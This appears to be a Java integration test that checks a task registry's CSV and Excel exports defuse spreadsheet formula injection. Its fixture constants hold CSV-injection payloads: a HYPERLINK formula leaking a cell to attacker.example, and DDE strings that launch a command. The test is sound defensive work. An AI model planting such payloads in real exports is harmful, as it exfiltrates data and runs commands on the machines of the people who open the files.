package jp.gyomu.registry;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import jp.gyomu.support.GyomuIntegrationTest;
import jp.gyomu.support.TestUsers;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.camunda.bpm.engine.IdentityService;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.client.TestRestTemplate;
import org.springframework.http.HttpEntity;
import org.springframework.http.HttpHeaders;
import org.springframework.http.HttpStatus;
import org.springframework.http.MediaType;

/**
 * Registry values that a spreadsheet would run as formulas (CSV injection): the CSV downloads write
 * them as text with a leading {@code '}, the registry import reads them back unchanged, and the
 * Excel report holds them as plain strings.
 */
class FormulaCellsTest extends GyomuIntegrationTest {

  static final String HYPERLINK = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"詳細\")";
  static final String DDE = "+cmd|' /C calc'!A0";
  static final String MINUS = "-2+3+cmd|' /C calc'!A0";
  static final String AT = "@SUM(1+1)*cmd|' /C calc'!A0";
  // a lone dash is text, not a number (the registry strips leading tabs and line breaks itself)
  static final String DASH = "-";
  static final String QUOTED = "'=already marked";

  @Autowired TestRestTemplate rest;
  @Autowired IdentityService identity;

  @BeforeEach
  void aTaskFullOfFormulas() {
    TestUsers.ensure(identity);
    if (analyst().getForEntity("/api/automation-tasks/CSV-FORMULA", String.class).getStatusCode()
        == HttpStatus.OK) {
      return;
    }
    var task = new LinkedHashMap<String, Object>();
    task.put("code", "CSV-FORMULA");
    task.put("name_ja", HYPERLINK);
    task.put("name_en", DASH);
    task.put("department", DDE);
    task.put("division", MINUS);
    task.put("technology", "RPA");
    task.put("status", "PRODUCTION");
    task.put("go_live_date", "2026-04-01");
    task.put("baseline_minutes", 15);
    task.put("expected_annual_cases", 100);
    task.put("notes", AT + " / " + QUOTED);
    var created = analyst().postForEntity("/api/automation-tasks", task, String.class);
    assertThat(created.getStatusCode()).as(created.getBody()).isEqualTo(HttpStatus.CREATED);
    task.put("code", "CSV-QUOTED");
    task.put("notes", QUOTED);
    assertThat(analyst().postForEntity("/api/automation-tasks", task, String.class).getStatusCode())
        .isEqualTo(HttpStatus.CREATED);
  }

  @Test
  void theRegistryExportMarksFormulaCellsAsText() {
    String csv = exportCsv();
    List<String> row = cellsOf(csv, "CSV-FORMULA");

    assertThat(row)
        .contains("'" + HYPERLINK, "'" + DASH, "'" + DDE, "'" + MINUS, "'" + AT + " / " + QUOTED)
        .contains("15", "100");
    assertThat(cellsOf(csv, "CSV-QUOTED")).contains("''=already marked");
  }

  @Test
  void theExportedCsvImportsBackToTheOriginalValues() {
    var headers = new HttpHeaders();
    headers.setContentType(MediaType.parseMediaType("text/csv"));
    var imported =
        analyst()
            .postForEntity(
                "/api/automation-tasks/import?format=csv",
                new HttpEntity<>(exportCsv().getBytes(StandardCharsets.UTF_8), headers),
                Map.class);
    assertThat(imported.getStatusCode()).isEqualTo(HttpStatus.OK);
    assertThat(imported.getBody()).containsEntry("created", 0);

    Map<?, ?> task = analyst().getForObject("/api/automation-tasks/CSV-FORMULA", Map.class);
    assertThat(task.get("name_ja")).isEqualTo(HYPERLINK);
    assertThat(task.get("name_en")).isEqualTo(DASH);
    assertThat(task.get("department")).isEqualTo(DDE);
    assertThat(task.get("division")).isEqualTo(MINUS);
    assertThat(task.get("notes")).isEqualTo(AT + " / " + QUOTED);
    assertThat(analyst().getForObject("/api/automation-tasks/CSV-QUOTED", Map.class))
        .containsEntry("notes", QUOTED);
  }

  @Test
  void theReportCsvMarksFormulaCellsAsTextAndKeepsNumbersNumbers() {
    byte[] body = manager().getForObject("/dashboard/report.csv", byte[].class);
    String csv = new String(body, StandardCharsets.UTF_8);
    List<String> row = cellsOf(csv, "'" + HYPERLINK);

    assertThat(row).contains("'" + DDE, "'" + AT + " / " + QUOTED);
    assertThat(row.get(0)).matches("\\d+");
    assertThat(row.get(8)).as("net hours").matches("-?\\d+(\\.\\d+)?");
  }

  @Test
  void theExcelReportHoldsFormulaValuesAsPlainStrings() throws Exception {
    byte[] body = manager().getForObject("/dashboard/report.xlsx", byte[].class);
    var cells = new ArrayList<Cell>();
    try (var workbook = new XSSFWorkbook(new ByteArrayInputStream(body))) {
      for (Row row : workbook.getSheetAt(0)) {
        row.forEach(cells::add);
      }
    }

    assertThat(cells).noneMatch(c -> c.getCellType() == CellType.FORMULA);
    assertThat(cells)
        .filteredOn(c -> c.getCellType() == CellType.STRING)
        .extracting(Cell::getStringCellValue)
        .contains(HYPERLINK, DDE);
  }

  /** The cells of the line whose first cells include {@code key}, parsed without unmarking. */
  private static List<String> cellsOf(String csv, String key) {
    for (String line : csv.split("\r\n(?=(?:[^\"]*\"[^\"]*\")*[^\"]*$)")) {
      List<String> cells = rawCells(line);
      if (cells.size() > 1 && (cells.get(0).equals(key) || cells.get(1).equals(key))) {
        return cells;
      }
    }
    throw new AssertionError("no line for " + key + " in\n" + csv);
  }

  /** RFC 4180 cells of one line, exactly as written (quotes undone, nothing else). */
  private static List<String> rawCells(String line) {
    var cells = new ArrayList<String>();
    var cell = new StringBuilder();
    boolean quoted = false;
    for (int i = 0; i < line.length(); i++) {
      char c = line.charAt(i);
      if (quoted && c == '"' && i + 1 < line.length() && line.charAt(i + 1) == '"') {
        cell.append('"');
        i++;
      } else if (c == '"') {
        quoted = !quoted;
      } else if (c == ',' && !quoted) {
        cells.add(cell.toString());
        cell.setLength(0);
      } else {
        cell.append(c);
      }
    }
    cells.add(cell.toString());
    return cells;
  }

  private String exportCsv() {
    return new String(
        analyst().getForObject("/api/automation-tasks/export?format=csv", byte[].class),
        StandardCharsets.UTF_8);
  }

  private TestRestTemplate analyst() {
    return rest.withBasicAuth(TestUsers.ANALYST, TestUsers.PASSWORD);
  }

  private TestRestTemplate manager() {
    return rest.withBasicAuth(TestUsers.MANAGER, TestUsers.PASSWORD);
  }
}
